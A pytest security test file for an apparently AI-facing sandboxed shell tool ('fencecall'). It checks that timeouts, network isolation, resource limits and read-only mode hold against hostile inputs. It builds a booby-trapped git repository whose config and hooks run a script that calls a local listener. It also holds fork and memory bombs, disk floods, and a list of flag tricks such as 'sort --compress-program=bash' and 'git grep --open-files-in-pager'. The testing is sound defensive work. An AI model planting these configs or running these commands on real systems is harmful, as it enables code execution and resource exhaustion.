"""Issue 44's attacks on the shell, as a hostile tester ran them: a stopped command that ran
the rest of its line, unconfirmed runs that reached the network or ran a repository's
programs, floods that filled the disk, bombs without a limit, and a read-only sandbox that
wrote to the host. Real bash, real bwrap, real git, real listeners."""

from __future__ import annotations

import contextlib
import http.server
import os
import shutil
import signal
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from fencecall.sandbox._bwrap import Sandbox, SandboxPolicy
from fencecall.sandbox._resource_limits import GiB, MiB, ResourceLimits
from fencecall.tools.runtime.job_manager import JobManager
from fencecall.tools.runtime.shell_session import ShellSession

from ..support import needs_bwrap

POLICIES = [pytest.param(SandboxPolicy.OFF, id="unsandboxed"),
            pytest.param(SandboxPolicy.WORKSPACE_WRITE, id="sandboxed", marks=needs_bwrap)]


@pytest.fixture
def shells(workspace: Path) -> Iterator[list[ShellSession]]:
    made: list[ShellSession] = []
    yield made
    for shell in made:
        shell.close()


def _shell(made: list[ShellSession], workspace: Path, policy: SandboxPolicy, *,
           network: bool = False, limits: ResourceLimits | None = None,
           jobs: JobManager | None = None) -> ShellSession:
    sandbox = Sandbox(policy, (workspace,), network, limits=limits or ResourceLimits())
    shell = ShellSession(workspace, env={"PATH": os.environ["PATH"], "HOME": str(workspace)},
                         sandbox=sandbox, jobs=jobs)
    made.append(shell)
    return shell


# -- 1. stopping a call stops its whole command -------------------------------------------

@pytest.mark.parametrize("policy", POLICIES)
def test_a_timeout_stops_the_rest_of_the_line(policy: SandboxPolicy, workspace: Path,
                                              shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, policy)
    shell.run("mkdir -p sub && cd sub && export KEPT=yes")
    result = shell.run("sleep 4; echo T > after_timeout.txt", timeout=1)
    assert result.timed_out and result.exit_code is None
    assert result.stopped_at is not None and "sleep 4" in result.stopped_at
    time.sleep(3.5)
    assert not (workspace / "sub" / "after_timeout.txt").exists()
    after = shell.run("pwd; echo $KEPT")
    assert after.stdout == f"{workspace / 'sub'}\nyes\n"


@pytest.mark.parametrize("policy", POLICIES)
def test_loops_and_chains_stop_too(policy: SandboxPolicy, workspace: Path,
                                   shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, policy)
    shell.run("for i in 1 2 3; do sleep 1; touch loop$i; done", timeout=1.5)
    shell.run("sleep 3 && touch chained", timeout=0.5)
    time.sleep(3)
    assert sorted(p.name for p in workspace.iterdir()) == ["loop1"]


@pytest.mark.parametrize("policy", POLICIES)
def test_ctrl_c_stops_the_rest_of_the_line(policy: SandboxPolicy, workspace: Path,
                                           shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, policy)
    shell.run("export KEPT=yes")
    timer = threading.Timer(1.0, signal.pthread_kill,
                            (threading.main_thread().ident, signal.SIGINT))
    timer.start()
    with pytest.raises(KeyboardInterrupt):
        shell.run("sleep 3; echo T > after_interrupt.txt", timeout=30)
    time.sleep(3)
    assert not (workspace / "after_interrupt.txt").exists()
    assert shell.run("echo $KEPT").stdout == "yes\n"


@needs_bwrap
def test_a_stopped_read_only_run_reports_where(workspace: Path,
                                               shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE)
    result = shell.run("sleep 5; ls", timeout=1, read_only=True)
    assert result.timed_out and result.stopped_at is not None and "sleep 5" in result.stopped_at


# -- 2. runs nobody confirmed are closed ---------------------------------------------------

class _Listener(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_Listener,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


@needs_bwrap
def test_an_unconfirmed_run_has_no_network_even_with_network_on(
        workspace: Path, shells: list[ShellSession],
        listener: tuple[int, list[str]]) -> None:
    port, hits = listener
    shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE, network=True)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    fetch = (f"python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:{port}/py',"
             f" timeout=3)\"")
    shell.run(f"git remote show http://127.0.0.1:{port}/X; {fetch}", read_only=True)
    assert hits == []
    shell.run(fetch)  # a confirmed call has the network it was given
    assert hits == ["/py"]


def _hostile_repository(workspace: Path, port: int) -> None:
    """A checkout whose .git/config runs a program from every read-only git command."""
    def run(*args: str) -> None:
        subprocess.run(["git", "-C", str(workspace), *args], check=True, capture_output=True)

    run("init", "-q")
    (workspace / "f.txt").write_text("a\n")
    (workspace / ".gitattributes").write_text("f.txt filter=evil diff=evil\n")
    run("add", ".")
    run("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one")
    (workspace / "f.txt").write_text("a\nb\n")
    os.utime(workspace / "f.txt", (1e9, 1e9))  # racy stat: status hashes it through clean
    evil = workspace / ".git" / "evil.sh"
    evil.write_text(f"echo PWNED-$1 >&2\npython3 -c \"import urllib.request as u; "
                    f"u.urlopen('http://127.0.0.1:{port}/'+'$1', timeout=2)\" 2>/dev/null\n"
                    "cat\n")
    run_evil = {what: f"sh {evil} {what}" for what in
                ("external", "fsmonitor", "clean", "textconv", "command", "gpg")}
    with (workspace / ".git" / "config").open("a") as config:
        config.write(f'[diff]\n\texternal = "{run_evil["external"]}"\n'
                     f'[core]\n\tfsmonitor = "{run_evil["fsmonitor"]}"\n'
                     f'[filter "evil"]\n\tclean = "{run_evil["clean"]}"\n'
                     f'[diff "evil"]\n\ttextconv = "{run_evil["textconv"]}"\n'
                     f'\tcommand = "{run_evil["command"]}"\n'
                     f'[log]\n\tshowSignature = true\n[gpg]\n\tprogram = "{run_evil["gpg"]}"\n')
    hook = workspace / ".git" / "hooks" / "post-index-change"
    hook.write_text("#!/bin/sh\necho PWNED-hook >&2\n")
    hook.chmod(0o755)


@needs_bwrap
def test_a_hostile_git_config_runs_nothing_unconfirmed(
        workspace: Path, shells: list[ShellSession],
        listener: tuple[int, list[str]]) -> None:
    port, hits = listener
    _hostile_repository(workspace, port)
    shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE, network=True)
    for command in ("git status", "git diff", "git diff --stat", "git log -p -1",
                    "git show --show-signature", "ls | xargs git diff --", "/usr/bin/git diff"):
        result = shell.run(command, read_only=True)
        assert "PWNED" not in result.stdout + result.stderr, command
    assert "f.txt" in shell.run("git status --short", read_only=True).stdout
    assert hits == []
    # the same command, confirmed, runs what the repository says: the guard is what differs
    confirmed = shell.run("git status")
    assert "PWNED" in confirmed.stderr


# -- 3. one output and resource cap for every tool process ---------------------------------

class _Sizes:
    """The biggest size on disk the unnamed capture files of this process reached."""

    def __init__(self) -> None:
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def __enter__(self) -> _Sizes:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()

    def _watch(self) -> None:
        while not self._stop.wait(0.01):
            total = 0
            for name in os.listdir("/proc/self/fd"):
                with contextlib.suppress(OSError):
                    if "(deleted)" in os.readlink(f"/proc/self/fd/{name}") or \
                            "/#" in os.readlink(f"/proc/self/fd/{name}"):
                        total += os.fstat(int(name)).st_blocks * 512
            self.peak = max(self.peak, total)


@needs_bwrap
def test_an_unconfirmed_flood_stops_at_the_cap(workspace: Path,
                                               shells: list[ShellSession]) -> None:
    limits = ResourceLimits(output=8 * MiB)
    shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE, limits=limits)
    started = time.monotonic()
    with _Sizes() as sizes:
        result = shell.run("head -c 2G /dev/zero", timeout=60, read_only=True)
    assert result.overflowed and not result.timed_out
    assert time.monotonic() - started < 20
    assert sizes.peak <= 2 * 8 * MiB + MiB  # stdout and stderr, each capped by RLIMIT_FSIZE


@needs_bwrap
def test_an_unconfirmed_run_fills_no_memory_through_its_tmpfs(
        workspace: Path, shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE,
                   limits=ResourceLimits(tmp=4 * MiB))
    result = shell.run("head -c 64M /dev/zero > $TMPDIR/x; du -k $TMPDIR/x; "
                       "head -c 64M /dev/zero > /dev/shm/y; du -k /dev/shm/y", read_only=True)
    sizes = [int(line.split()[0]) for line in result.stdout.splitlines()]
    assert sizes and all(size <= 4 * 1024 for size in sizes)
    assert "No space left" in result.stderr or "File too large" in result.stderr


@pytest.mark.parametrize("policy", POLICIES)
def test_a_job_is_stopped_by_the_blocks_it_wrote(policy: SandboxPolicy, workspace: Path,
                                                 shells: list[ShellSession],
                                                 tmp_path: Path) -> None:
    jobs = JobManager(lambda: tmp_path, output_limit=1000, disk_limit=16 * MiB,
                      background_after=0.2)
    shell = _shell(shells, workspace, policy, jobs=jobs)
    with _Sizes() as sizes:
        result = shell.run("sleep 0.5; head -c 3G /dev/zero", timeout=60, background_after=0.2)
        assert result.job is not None
        view = jobs.wait(result.job, 30)
    jobs.close()
    assert view.state == "overflowed"
    assert sizes.peak < GiB  # counted by bytes copied, it reached gigabytes


@pytest.mark.parametrize("policy", POLICIES)
def test_a_fork_bomb_meets_the_process_limit(policy: SandboxPolicy, workspace: Path,
                                            shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, policy, limits=ResourceLimits(processes=64))
    bomb = ("import os, time\nmade = 0\ntry:\n    for _ in range(300):\n"
            "        if os.fork() == 0:\n            time.sleep(2)\n            os._exit(0)\n"
            "        made += 1\nexcept OSError:\n    print('refused after', made)\n")
    (workspace / "bomb.py").write_text(bomb)
    result = shell.run("python3 bomb.py", timeout=30)
    assert "refused after" in result.stdout
    assert int(result.stdout.split()[-1]) < 64


@pytest.mark.parametrize("policy", POLICIES)
def test_a_memory_bomb_meets_the_memory_limit(policy: SandboxPolicy, workspace: Path,
                                             shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, policy, limits=ResourceLimits(memory=256 * MiB))
    result = shell.run("python3 -c 'x = bytearray(1024**3); x[::4096] = b\"1\" * len(x[::4096])"
                       "; print(\"allocated\")'", timeout=60)
    assert "allocated" not in result.stdout and result.exit_code != 0
    assert shell.run("echo fine").stdout == "fine\n"


# -- 4. read-only writes nothing on the host -----------------------------------------------

def _host_bytes(folder: Path) -> int:
    return sum(p.stat().st_size for p in folder.rglob("*") if p.is_file())


@needs_bwrap
def test_the_read_only_sandbox_writes_nothing_on_the_host(workspace: Path,
                                                          shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, SandboxPolicy.READ_ONLY)
    shell.run("sleep 30", timeout=0.5)  # stopped: its state waits in the scratch folder
    scratch = shell._dir
    assert scratch is not None
    for target in (f"{scratch}/x", f"{scratch}/../x", "$TMPDIR/x", "/tmp/x"):
        shell.run(f"head -c 10M /dev/zero > {target}")
    assert _host_bytes(scratch) < 64 * 1024  # the state fencecall wrote, no more
    assert not any(workspace.iterdir())


# -- the hostile review's second round -----------------------------------------------------

@pytest.mark.parametrize("command", [
    "git grep --open-files-in-pager='sh -c id' x", "git grep --op=vim x", "git grep -iOvim x",
    "sort -S 64K --compress-program=bash notes.txt", "sort --co=bash notes.txt",
    "rg --pre cat x", "git remote -v update", "git --bare log -p", "git -C .. status",
    "git show --submodule=diff", "git status --ignore-submodules=none",
    "git diff --recurse-submodules", "git log --ext-diff -p"])
def test_commands_that_run_programs_are_not_read_only(command: str) -> None:
    from fencecall.tools.runtime.shell_policy import is_read_only

    assert not is_read_only(command)


@pytest.mark.parametrize("command", ["git status", "git diff HEAD~1 --stat", "git log -p -3",
                                     "git --no-pager log --oneline", "git remote -v",
                                     "git grep -n TODO", "sort -k2 notes.txt", "rg TODO"])
def test_ordinary_reads_stay_read_only(command: str) -> None:
    from fencecall.tools.runtime.shell_policy import is_read_only

    assert is_read_only(command)


@needs_bwrap
def test_an_unconfirmed_run_reaches_no_unix_socket_and_reserves_no_disk(
        workspace: Path, shells: list[ShellSession], tmp_path: Path) -> None:
    import socket

    folder = Path(tempfile.mkdtemp(prefix="fencecall-socket-", dir="/var/tmp"))
    daemon = socket.socket(socket.AF_UNIX)
    daemon.bind(str(folder / "daemon.sock"))
    daemon.listen(1)
    daemon.settimeout(0.5)
    try:
        shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE)
        result = shell.run(f"python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); "
                           f"s.connect('{folder}/daemon.sock')\"", read_only=True)
        assert result.exit_code != 0 and "Permission denied" in result.stderr
        with pytest.raises(TimeoutError):
            daemon.accept()
        with _Sizes() as sizes:
            result = shell.run("fallocate -n -l 4G /dev/fd/1; fallocate -l 4G $TMPDIR/x; "
                               "echo x > /dev/x", read_only=True)
        assert result.stderr.count("Operation not permitted") == 2
        assert "Read-only file system" in result.stderr
        assert sizes.peak < 64 * MiB
        assert "fine" in shell.run("echo fine", read_only=True).stdout
    finally:
        daemon.close()
        shutil.rmtree(folder)


def _git(workspace: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(workspace), "-c", "user.name=t", "-c", "user.email=t@t",
                    "-c", "protocol.file.allow=always", *args], check=True, capture_output=True)


@needs_bwrap
def test_exported_git_variables_and_submodules_do_not_defeat_the_guard(
        workspace: Path, shells: list[ShellSession], tmp_path: Path) -> None:
    evil = tmp_path / "evil.sh"
    evil.write_text("echo PWNED-$1 >&2\ncat\n")
    inner = tmp_path / "inner"
    inner.mkdir()
    _git(inner, "init", "-q")
    (inner / "s.txt").write_text("one\n")
    (inner / ".gitattributes").write_text("s.txt filter=f diff=f\n")
    _git(inner, "add", ".")
    _git(inner, "commit", "-qm", "inner")
    _git(workspace, "init", "-q")
    (workspace / "a.txt").write_text("a\n")
    (workspace / ".gitattributes").write_text("a.txt diff=t\n")
    _git(workspace, "submodule", "add", "-q", str(inner), "sub")
    _git(workspace, "add", ".")
    _git(workspace, "commit", "-qm", "outer")
    _git(workspace / "sub", "config", "filter.f.clean", f"sh {evil} clean")
    _git(workspace / "sub", "config", "diff.f.command", f"sh {evil} command")
    _git(workspace, "config", "diff.t.textconv", f"sh {evil} textconv")
    _git(workspace, "config", "diff.submodule", "diff")
    with (workspace / ".gitmodules").open("a") as modules:
        modules.write("\tignore = none\n")
    (workspace / "sub" / "s.txt").write_text("two\n")
    os.utime(workspace / "sub" / "s.txt", (1e9, 1e9))
    (workspace / "a.txt").write_text("b\n")
    shell = _shell(shells, workspace, SandboxPolicy.WORKSPACE_WRITE)
    shell.run("export GIT_CONFIG=/dev/null GIT_EXTERNAL_DIFF='sh -c \"echo PWNED-env >&2\"'")
    for command in ("git status", "git show", "git log -p -1", "git diff",
                    "git show --textconv HEAD:a.txt"):
        result = shell.run(command, read_only=True)
        assert "PWNED" not in result.stdout + result.stderr, command
    plain = shell.run("git diff --stat", read_only=True)
    assert plain.exit_code == 0 and "a.txt" in plain.stdout  # no false alarm on plain diffs


@pytest.mark.parametrize("policy", POLICIES)
def test_no_handler_runs_after_a_stop(policy: SandboxPolicy, workspace: Path,
                                      shells: list[ShellSession]) -> None:
    shell = _shell(shells, workspace, policy)
    (workspace / "h.py").write_text(
        "import os, signal, time\n"
        "signal.signal(signal.SIGTERM, lambda *a: (open('after', 'w').write('x'), os._exit(0)))\n"
        "time.sleep(30)\n")
    result = shell.run("python3 h.py", timeout=1)
    assert result.timed_out
    time.sleep(0.5)
    assert not (workspace / "after").exists()
